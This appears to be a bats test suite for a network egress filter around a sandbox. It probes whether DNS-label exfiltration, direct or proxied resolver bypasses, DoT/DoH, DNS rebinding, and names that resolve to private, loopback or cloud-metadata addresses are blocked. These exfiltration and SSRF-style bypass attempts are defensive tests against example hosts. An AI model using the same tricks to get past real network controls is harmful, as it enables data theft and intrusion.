@@ -1,0 +1,155 @@
+#!/usr/bin/env bats
+# SPDX-License-Identifier: MIT
+# A lookup carries data out already: what is forbidden is never asked outside. And no answer of a name server leads below the floor.
+
+load helper
+setup() {
+    start_egress_test
+    filtered
+    is_connected
+}
+teardown() { end_egress_test; }
+
+@test "a lookup as a channel: labels of a forbidden zone never leave the host" {
+    log_mark
+    works outside getent ahosts secret-outside.leak.example
+    seen tricks secret-outside
+    run in_jail getent ahosts secret-inside.leak.example
+    ((status != 0))
+    run in_jail dig +time=2 +tries=1 A secret-inside-a.leak.example
+    run in_jail dig +time=2 +tries=1 TXT secret-inside-txt.leak.example
+    run in_jail dig +time=2 +tries=1 @8.8.8.8 secret-inside-direct.leak.example
+    run in_jail dig +time=2 +tries=1 @203.0.113.53 secret-inside-site.leak.example
+    run in_jail dig +time=2 +tries=1 +tcp @203.0.113.54 secret-inside-tcp.leak.example
+    run in_jail curl -sS --max-time 5 http://secret-inside-curl.leak.example/
+    run in_jail curl -sS --max-time 5 --proxy http://198.18.0.1:3128 http://secret-inside-proxy.leak.example/
+    run in_jail curl -sS --max-time 5 --socks5-hostname 198.18.0.1:1080 http://secret-inside-socks.leak.example/
+    unseen tricks secret-inside
+    unseen dns secret-inside
+}
+
+@test "proxied: a name on no list is never asked outside" {
+    proxied
+    log_mark
+    run in_jail getent ahosts secret-inside.trick.example
+    run in_jail dig +time=2 +tries=1 MX secret-inside.trick.example
+    unseen tricks secret-inside
+    unseen dns secret-inside
+    says "198.18." in_jail getent ahostsv4 good.example
+    seen dns good.example
+}
+
+@test "a resolver of one's own choice is answered by the gateway" {
+    says "203.0.113.10" outside dig +short @8.8.8.8 good.example
+    says "198.18." in_jail dig +short @8.8.8.8 good.example
+    [[ $output != *203.0.113.10* ]]
+}
+
+@test "DNS over TLS is closed" {
+    only_outside "port 853 is open" python3 -c 'import socket; print(socket.create_connection(("8.8.8.8", 853), 3).recv(99).decode())'
+}
+
+@test "DNS over HTTPS is closed: the shipped list, and the address" {
+    JAIL=(--network filtered)
+    only_outside "an answer over HTTPS" curl -sS --max-time 10 --fail "https://dns.google/dns-query?dns=AAAA"
+    only_outside "an answer over HTTPS" curl -sS --max-time 10 --fail -k "https://8.8.8.8/dns-query?dns=AAAA"
+    JAIL=(--network filtered --allow-host dns.google)
+    everywhere "an answer over HTTPS" curl -sS --max-time 10 --fail "https://dns.google/dns-query?dns=AAAA"
+}
+
+@test "other types: TXT, MX, SRV, ANY have no answer unless opened, and the reason is told" {
+    local type
+    log_mark
+    says a-text-of-good outside dig +short TXT good.example
+    says mail.example outside dig +short MX good.example
+    for type in TXT MX SRV ANY NULL CNAME NS SOA; do
+        run in_jail dig +time=2 +tries=1 "$type" good.example
+        [[ $output != *a-text-of-good* && $output != *mail.example* ]] || report "$type"
+    done
+    # The name itself is permitted: no refusal, which a resolver would take for one of the name.
+    says "ANSWER: 0" in_jail dig +time=2 +tries=1 TXT good.example
+    [[ $output == *"EDE: 17 (Filtered)"*network.dns_types* ]] || report "should say why"
+    run -1 grep -E 'query\[(SRV|NULL|CNAME|NS|SOA)' <(since_mark dns)
+}
+
+@test "HTTPS and SVCB questions are answered politely: no error, no answer" {
+    works in_jail dig +time=2 +tries=1 HTTPS good.example
+    [[ $output != *"timed out"* ]]
+}
+
+@test "reverse lookups know only our own addresses" {
+    says good.example in_jail_sh 'dig +short +time=2 +tries=1 -x "$(getent ahostsv4 good.example | head -n 1 | cut -d" " -f1)"'
+    log_mark
+    run in_jail dig +time=2 +tries=1 -x 203.0.113.10
+    unseen dns 203.0.113.10
+}
+
+@test "DNS rebinding: an answer that changes to a private address is not followed" {
+    # The control: outside, the second lookup leads into the private network.
+    works outside_sh 'getent ahostsv4 control.rebind.example; getent ahostsv4 control.rebind.example'
+    [[ $output == *203.0.113.10*10.1.2.3* ]]
+    log_mark
+    run in_jail_sh 'for try in 1 2 3 4; do curl -sS --max-time 5 http://jailed.rebind.example/; sleep 0.3; done; true'
+    unseen web "10.1.2.3:80"
+}
+
+@test "a name that resolves below the floor is refused, whatever allows the name" {
+    local name
+    declare -A names=(
+        [to-127-0-0-1.trick.example:8001]="a service of the host" [to-10-1-2-3.trick.example:80]="here"
+        [to-192-168-1-1.trick.example:80]="here" [to-172-16-9-9.trick.example:80]="here" [to-100-64-0-9.trick.example:80]="here"
+        [to-169-254-169-254.trick.example:80]="here" [to-100-100-100-200.trick.example:80]="here" [to-0-0-0-0.trick.example:8002]="a service of the host"
+        [six-00000000000000000000ffff0a010203.trick.example:80]="here" [six-00000000000000000000ffffa9fea9fe.trick.example:80]="here"
+        [six-00000000000000000000000000000001.trick.example:8001]="a service of the host"
+        [six-0064ff9b0000000000000000a9fea9fe.trick.example:80]="here" [six-2002a9fea9fe00000000000000000001.trick.example:80]="here"
+        [six-fd000ec2000000000000000000000254.trick.example:80]="here" [six-fd123456000000000000000000000009.trick.example:80]="here"
+    )
+    JAIL=(--network filtered --allow-host "*.trick.example")
+    for name in "${!names[@]}"; do
+        says "${names[$name]}" outside curl -sS --max-time 5 "http://$name/"
+        run in_jail curl -sS --fail --max-time 5 "http://$name/"
+        [[ $output != *"${names[$name]}"* ]] || report "should not lead there: $name"
+        ((status != 28)) || report "should not wait: $name"
+    done
+    says "EDE: " in_jail dig +time=2 +tries=1 to-10-1-2-3.trick.example
+}
+
+@test "of several addresses only the good ones are dialled" {
+    log_mark
+    everywhere "here" curl -sS --max-time 10 http://to-203-0-113-10-and-10-1-2-3.trick.example/
+    log_mark
+    says "here" in_jail curl -sS --max-time 10 http://to-10-1-2-3-and-203-0-113-10.trick.example/
+    unseen web "10.1.2.3:80"
+    seen web "203.0.113.10:80"
+}
+
+@test "a name that resolves to this host's own address is refused: the gateway is no way in" {
+    JAIL=(--network filtered --allow-host host.example --allow-host "*.trick.example")
+    only_outside "a service of the host" curl -sS --fail --max-time 5 http://host.example:8002/
+    only_outside "a service of the host" curl -sS --fail --max-time 5 http://six-20010db8000100000000000000000002.trick.example:8002/
+}
+
+@test "a silent name server costs a time-out of ours, not a hang" {
+    run in_jail dig +time=20 +tries=1 silent.trick.example
+    [[ $output == *SERVFAIL* ]] || report "should be told that nobody answered"
+}
+
+@test "synthetic addresses: one for each name, the first is kept, none is shared" {
+    prints "distinct kept" in_jail python3 load.py names 300
+}
+
+@test "a synthetic address that was never given out is refused" {
+    run in_jail curl -sS --max-time 5 http://198.18.200.200/
+    [[ $output != *here* ]]
+    ((status != 28)) || report "should not wait"
+}
+
+@test "names in strange clothes: case, dots at the end, IDN, bytes that are none" {
+    run in_jail curl -sS --max-time 5 http://EVIL.example/
+    [[ $output != *here* ]]
+    run in_jail curl -sS --max-time 5 http://evil.example./
+    [[ $output != *here* ]]
+    run in_jail curl -sS --max-time 5 http://evil.example../
+    [[ $output != *here* ]]
+    everywhere "here" curl -sS --max-time 5 http://GOOD.example./
+}
